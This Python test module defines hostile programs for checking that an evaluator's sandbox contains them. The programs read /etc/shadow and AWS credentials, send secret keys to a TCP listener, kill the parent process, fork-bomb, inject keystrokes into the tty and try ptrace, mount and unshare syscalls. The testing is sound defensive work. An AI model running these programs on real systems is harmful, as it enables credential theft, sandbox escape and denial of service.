"""Hostile PoT programs: what an attacker tried against the sandbox (issue 12), and more.

Standard library only: `pot_hostile_driver.py` imports this module from an interpreter that a
non-root user can read, without the project's virtual environment.

Each program is a `string.Template` over the test's world (`$parent`: the evaluator's pid,
`$sibling`: a process started outside the sandbox, `$marker`: a world-writable directory
outside, `$targets`: paths outside the sandbox it tries to create, `$secret_file`: a
world-readable file outside holding the canary, `$repo_file`: a file of this repository,
`$tcp_port`/`$udp_port`/`$abstract`:
listeners outside, `$token`: a number only this run uses, `$case`: the program's name).
A program prints `ESCAPED <what>` when something succeeded that must never succeed in any
sandbox mode; the tests check that, the canary, the listeners, the files and the processes.
"""

from __future__ import annotations

import json
import string
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One hostile program; `code` is a `string.Template` over the world."""

    name: str
    code: str

    def render(self, world: dict) -> str:
        values = {k: (json.dumps(v) if isinstance(v, list) else v) for k, v in world.items()}
        return string.Template(self.code).substitute(values, case=self.name)


# Helpers most programs start with: raw system calls through ctypes, and "try, report".
_PRELUDE = """
import os, sys
def try_(what, fn, *a):
    try:
        r = fn(*a)
    except BaseException as e:
        print(what, "failed:", type(e).__name__, e)
        return None
    print(what, "->", r)
    return r
def syscall(nr, *args):
    import ctypes  # here: the audit hook refuses it, and the other attacks should still run
    libc = ctypes.CDLL(None, use_errno=True)
    r = libc.syscall(nr, *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, ctypes.get_errno()
"""

_FORK_EXEC = """
import importlib
def spawn_shell(mod, cmd):
    r, w = os.pipe()
    base = ([b"/bin/sh", b"-c", cmd.encode()], [b"/bin/sh"], True, (), None, None,
            -1, -1, -1, -1, -1, -1, r, w, True, False)
    for tail in ((-1, None, None, None, -1, None, False), (-1, None, None, None, -1, None),
                 (None, None, None, -1, None)):
        try:
            pid = mod.fork_exec(*base, *tail)
        except TypeError:
            continue
        os.waitpid(pid, 0)
        return pid
"""

# A grandchild in a session of its own, `sleep $token`: the tests look for it afterwards.
_ORPHAN = """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/usr/bin/sleep", ["sleep", "$token"])
    os._exit(0)
"""

_SHELL = ("cat /proc/$parent/environ /proc/1/environ; env; cat $secret_file; "
          "kill -9 $parent $sibling; touch $marker/$case")

HOSTILE: tuple[Hostile, ...] = (
    Hostile("str-subclass-posixsubprocess", _PRELUDE + _FORK_EXEC + f"""
class S(str):
    pass
mod = __import__(S("_posixsubprocess"))
print("imported", mod)
spawn_shell(mod, "{_SHELL}")
"""),
    Hostile("str-subclass-hash-trick", _PRELUDE + """
class S(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
    def partition(self, sep):
        return ("math", sep, "")
m = __import__(S("ctypes"))
print("imported", m)
"""),
    Hostile("posixsubprocess-importlib", _PRELUDE + _FORK_EXEC + f"""
mod = importlib.import_module("_posixsubprocess")
spawn_shell(mod, "{_SHELL}")
"""),
    Hostile("ctypes-libc-system", _PRELUDE + f"""
import ctypes
libc = ctypes.CDLL(None)
print("system ->", libc.system(b"{_SHELL}"))
"""),
    Hostile("ctypes-syscall-kill", _PRELUDE + """
for pid in ($parent, $sibling):
    r, err = syscall(62 if os.uname().machine == "x86_64" else 129, pid, 9)
    if r == 0:
        print("ESCAPED kill", pid)
"""),
    Hostile("os-fork-exec", _PRELUDE + f"""
pid = os.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-c", "{_SHELL}"])
os.waitpid(pid, 0)
"""),
    Hostile("posix-spawn", _PRELUDE + f"""
pid = os.posix_spawn("/bin/sh", ["sh", "-c", "{_SHELL}"], {{}})
os.waitpid(pid, 0)
"""),
    Hostile("subprocess-run", _PRELUDE + f"""
import subprocess
print(subprocess.run(["/bin/sh", "-c", "{_SHELL}"], capture_output=True).stdout)
"""),
    Hostile("pidfd-signal-parent-and-sibling", _PRELUDE + """
import signal
for pid in ($parent, $sibling):
    fd = try_("pidfd_open", os.pidfd_open, pid)
    if fd is not None and try_("pidfd_send_signal", signal.pidfd_send_signal, fd,
                               signal.SIGKILL) is None:
        pass
    r, err = syscall(434 , pid, 0)
    if r >= 0:
        print("ESCAPED pidfd_open", pid)
        if syscall(424, r, 9, 0, 0)[0] == 0:
            print("ESCAPED pidfd_send_signal", pid)
"""),
    Hostile("pidfd-getfd", _PRELUDE + """
r, err = syscall(434, $parent, 0)
if r >= 0 and syscall(438, r, 0, 0)[0] >= 0:
    print("ESCAPED pidfd_getfd")
"""),
    Hostile("os-kill-parent", _PRELUDE + """
import signal
for pid in ($parent, $sibling):
    try_("kill", os.kill, pid, signal.SIGKILL)
"""),
    Hostile("kill-group-and-everyone", _PRELUDE + """
import signal
try_("killpg0", os.kill, 0, signal.SIGTERM)
try_("kill-1", os.kill, -1, signal.SIGKILL)
"""),
    Hostile("orphan-in-new-session", _PRELUDE + _ORPHAN + """
time.sleep(0.5)
print("parent of the orphan exits")
"""),
    Hostile("orphan-then-hang", _PRELUDE + _ORPHAN + """
while True:
    time.sleep(1)
"""),
    Hostile("mknod-and-mkfifo-outside", _PRELUDE + """
import stat
try_("mkfifo", os.mkfifo, "$marker/fifo")
try_("mknod-fifo", os.mknod, "$marker/node", stat.S_IFIFO | 0o666)
if try_("mknod-chr", os.mknod, "dev-null", stat.S_IFCHR | 0o666, os.makedev(1, 3)) is None:
    pass
r, err = syscall(259 if os.uname().machine == "x86_64" else 33, -100, b"$marker/raw",
                 stat.S_IFIFO | 0o666, 0)
if r == 0:
    print("ESCAPED mknodat")
"""),
    Hostile("proc-environ", _PRELUDE + """
for path in ("/proc/$parent/environ", "/proc/1/environ", "/proc/self/environ",
             "/proc/$sibling/environ", "/proc/$parent/cmdline"):
    try_(path, lambda p: open(p, "rb").read(), path)
"""),
    Hostile("proc-walk", _PRELUDE + """
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("pids", pids)
for p in pids:
    try_(p, lambda p: open(f"/proc/{p}/environ", "rb").read(), p)
if len(pids) > 5:
    print("ESCAPED host /proc")
"""),
    Hostile("read-shadow-and-repo", _PRELUDE + """
for path in ("/etc/shadow", "/etc/passwd", "$secret_file", "/root/.aws/credentials",
             "$repo_file"):
    try_(path, lambda p: open(p).read(), path)
print(os.listdir("/"))
"""),
    Hostile("write-outside", _PRELUDE + """
for path in $targets + ["$marker/$case"]:
    try_(path, lambda p: open(p, "w").write("$case"), path)
try_("symlink", os.symlink, "$marker", "link")
try_("via-link", lambda: open("link/$case-link", "w").write("x"))
"""),
    Hostile("disk-fill", _PRELUDE + """
total = 0
for i in range(10_000):
    try:
        with open(f"fill{i}", "wb") as f:
            while True:
                f.write(b"x" * (1 << 20))
                total += 1 << 20
    except OSError as e:
        if e.errno == 28 or i > 200:  # ENOSPC: the disk cap, not the per-file one
            break
print("total", total)
"""),
    Hostile("immutable-flag-ioctl", _PRELUDE + """
import fcntl, struct
fd = os.open("pinned", os.O_CREAT | os.O_WRONLY)
for cmd in (0x40086602, 0x40046602):
    try:
        fcntl.ioctl(fd, cmd, struct.pack("i", 0x10 | 0x20))
        print("ESCAPED immutable flag", hex(cmd))
    except OSError as e:
        print("ioctl failed", e)
"""),
    Hostile("realtime-priority", _PRELUDE + """
try:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    print("ESCAPED SCHED_FIFO")
except OSError as e:
    print("sched failed", e)
try:
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    print("ESCAPED nice -20")
except OSError as e:
    print("nice failed", e)
"""),
    Hostile("subinterpreter", _PRELUDE + f"""
import _xxsubinterpreters as interpreters
interp = interpreters.create()
interpreters.run_string(interp, "import os; os.system('{_SHELL}')")
print("subinterpreter ran")
"""),
    Hostile("tcp-to-listener", _PRELUDE + """
import socket
for host in ("127.0.0.1", "::1", "10.0.2.2"):
    try:
        s = socket.create_connection((host, $tcp_port), timeout=1)
        s.sendall(b"$case " + os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())
        print("ESCAPED tcp", host)
    except OSError as e:
        print("tcp failed", host, e)
"""),
    Hostile("udp-and-abstract-unix", _PRELUDE + """
import socket
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"$case", ("127.0.0.1", $udp_port))
    print("udp sent (to this namespace's loopback at most)")
except OSError as e:
    print("udp failed", e)
try:
    a = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    a.connect("\\0$abstract")
    a.sendall(b"$case")
    print("ESCAPED abstract unix socket")
except OSError as e:
    print("abstract failed", e)
"""),
    Hostile("fork-bomb", """
import os
while True:
    os.fork()
"""),
    Hostile("memory-bomb", """
try:
    huge = [0] * (1 << 32)  # 32 GiB of pointers, refused at once by RLIMIT_AS
except MemoryError:
    pass
blocks = []
while True:  # then grow until refused (64 MiB blocks: under the CPU limit even when busy)
    blocks.append(bytes(64 << 20))
"""),
    Hostile("infinite-loop", "while True:\n    pass\n"),
    Hostile("huge-output", "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n"),
    Hostile("ptrace-and-process-vm", _PRELUDE + """
x86 = os.uname().machine == "x86_64"
r, err = syscall(101 if x86 else 117, 16, $parent, 0, 0)  # PTRACE_ATTACH
if r == 0:
    print("ESCAPED ptrace attach")
import ctypes
buf = ctypes.create_string_buffer(64)
local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
remote = (ctypes.c_void_p * 2)(0x400000, 64)
r, err = syscall(310 if x86 else 270, $parent, local, 1, remote, 1, 0)
if r > 0:
    print("ESCAPED process_vm_readv")
"""),
    Hostile("mount-and-unshare", _PRELUDE + """
x86 = os.uname().machine == "x86_64"
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    r, err = syscall(272 if x86 else 97, flags)
    if r == 0:
        print("ESCAPED unshare", hex(flags))
r, err = syscall(165 if x86 else 40, b"none", b"/mmjobs-pot", b"tmpfs", 0, 0)
if r == 0:
    print("ESCAPED mount")
r, err = syscall(161 if x86 else 51, b"/")
if r == 0:
    print("ESCAPED chroot")
"""),
    Hostile("keyctl", _PRELUDE + """
x86 = os.uname().machine == "x86_64"
r, err = syscall(250 if x86 else 219, 0, -4, 0)  # KEYCTL_GET_KEYRING_ID, user keyring
if r >= 0:
    print("ESCAPED keyctl", r)
r, err = syscall(248 if x86 else 217, b"user", b"pot", b"secret", 6, -4)
if r >= 0:
    print("ESCAPED add_key", r)
"""),
    Hostile("environment-variables", """
import os
print(sorted(os.environ.items()))
print(os.environ.get("AWS_SECRET_ACCESS_KEY"), os.environ.get("MLFLOW_TRACKING_TOKEN"))
"""),
    Hostile("import-mmjobs-and-boto3", _PRELUDE + """
try_("mmjobs", __import__, "mmjobs")
boto3 = try_("boto3", __import__, "boto3")
if boto3 is not None:
    try_("credentials", lambda: boto3.Session().get_credentials())
"""),
    Hostile("remove-the-hook", _PRELUDE + """
import gc
for obj in try_("gc", gc.get_objects) or []:
    if callable(obj) and getattr(obj, "__name__", "") == "hook":
        obj.__defaults__ = None
try_("frames", sys._current_frames)
try_("settrace", sys.settrace, lambda *a: None)
import _posixsubprocess
print("imported after hook removal attempts")
"""),
    Hostile("device-and-proc-sys", _PRELUDE + """
for path in ("/dev/null", "/dev/zero"):
    try:
        os.chmod(path, 0o600)
        print("ESCAPED chmod", path)
    except OSError as e:
        print("chmod failed", path, e)
for path in ("/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches",
             "/proc/sysrq-trigger"):
    try:
        with open(path, "w") as f:
            f.write("1")
        print("ESCAPED write", path)
    except OSError as e:
        print("write failed", path, e)
"""),
    Hostile("tty-injection", _PRELUDE + """
import fcntl, termios
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        print("ESCAPED TIOCSTI", fd)
    except OSError as e:
        print("TIOCSTI failed", fd, e)
try:
    os.open("/dev/tty", os.O_RDWR)
    print("ESCAPED /dev/tty")
except OSError as e:
    print("tty failed", e)
"""),
)

DISK_BYTES = 8 << 20


def suite_settings(mode: str, *, site_packages: bool = True):
    """(SandboxLimits, Isolation) for a suite run.

    full: the defaults (both layers; no processes). os-only: no audit hook and up to 16
    processes, so every program meets the operating-system layer alone.
    """
    from mmjobs.eval.pot import Isolation, SandboxLimits

    if mode not in ("full", "os-only"):
        raise ValueError(f"mode must be full or os-only, got {mode!r}")
    os_only = mode == "os-only"
    limits = SandboxLimits(wall_s=2.5, cpu_s=1, memory_bytes=512 << 20,
                           disk_bytes=DISK_BYTES, max_processes=16 if os_only else 0,
                           site_packages=site_packages)
    return limits, Isolation(audit_hook=not os_only)
